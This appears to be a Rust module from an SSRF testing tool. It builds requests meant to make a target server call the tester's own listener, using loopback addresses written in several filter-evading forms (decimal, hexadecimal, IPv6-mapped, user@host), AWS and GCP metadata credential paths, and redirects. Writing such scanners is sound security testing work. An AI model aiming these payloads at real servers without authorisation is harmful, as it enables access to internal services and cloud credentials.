//! Attempts to have the server call this machine, in every spelling of its address.

use super::{Attempt, Planner, Proof};
use crate::attack::parameters::Parameter;

impl Planner<'_> {
    /// An address of the listener with a path that no other attempt has.
    pub(in crate::attack) fn address(&self, host: &str, path: &str) -> (String, String) {
        let path = format!("{path}{}", self.site.number());
        (format!("http://{host}:{}{path}", self.site.listener.port()), path)
    }

    /// The spellings of this machine's own address: a filter may know some of them only.
    fn hosts(&self) -> Vec<(&'static str, &'static str)> {
        let mut hosts = vec![
            ("loopback", "127.0.0.1"),
            ("loopback by name", "localhost"),
            ("loopback, shortened", "127.1"),
            ("loopback as one number", "2130706433"),
            ("loopback in hexadecimal", "0x7f000001"),
            ("loopback as IPv6", "[::ffff:127.0.0.1]"),
            ("loopback after a user name", "user@127.0.0.1"),
            ("all addresses of this machine", "0.0.0.0"),
        ];
        if self.site.listener.has_v6() {
            hosts.push(("IPv6 loopback", "[::1]"));
        }
        hosts
    }

    pub(super) fn loopbacks(&self, parameter: &Parameter) -> Vec<Attempt> {
        let hosts = self.hosts();
        let mut found = Vec::new();
        for (about, host) in hosts {
            let (url, path) = self.address(host, "/loopback/");
            // Some tools take only the host from an address.
            let proofs = vec![Proof::Called(path), Proof::Visited];
            found.push(self.sent(parameter, about, url, proofs));
        }
        found.extend(self.without_scheme(parameter, "/loopback/", &|path| path));
        if parameter.is_host() {
            let host = format!("127.0.0.1:{}", self.site.listener.port());
            found.push(self.sent(parameter, "loopback as a host", host, vec![Proof::Visited]));
        }
        found
    }

    /// The same without a scheme, for tools that add it themselves.
    fn without_scheme(
        &self,
        parameter: &Parameter,
        path: &str,
        called: &dyn Fn(String) -> String,
    ) -> Option<Attempt> {
        if !parameter.is_host() {
            return None;
        }
        let (url, path) = self.address("127.0.0.1", path);
        let text = url.trim_start_matches("http://").to_owned();
        let proofs = vec![Proof::Called(called(path))];
        Some(self.sent(parameter, "loopback with a path", text, proofs))
    }

    pub(super) fn metadata(&self, parameter: &Parameter) -> Vec<Attempt> {
        let paths = [
            "/latest/meta-data/iam/security-credentials/",
            "/computeMetadata/v1/instance/service-accounts/default/",
        ];
        let attempt = |host: &str, path: &str| {
            let (url, path) = self.address(host, path);
            self.sent(parameter, "a stand-in for metadata", url, vec![Proof::Called(path)])
        };
        let hosts = self.hosts();
        let mut found: Vec<Attempt> = paths.iter().map(|path| attempt("127.0.0.1", path)).collect();
        found.extend(hosts.iter().skip(1).map(|(_, host)| attempt(host, paths[0])));
        found.extend(self.without_scheme(parameter, paths[0], &|path| path));
        found
    }

    pub(super) fn redirects(&self, parameter: &Parameter) -> Vec<Attempt> {
        let landed = |path: String| path.replace("/moved/", "/landed/");
        let attempt = |(_, host): &(&str, &str)| {
            let (url, path) = self.address(host, "/moved/");
            self.sent(parameter, "a redirect", url, vec![Proof::Called(landed(path))])
        };
        let mut found: Vec<Attempt> = self.hosts().iter().map(attempt).collect();
        found.extend(self.without_scheme(parameter, "/moved/", &landed));
        found
    }
}
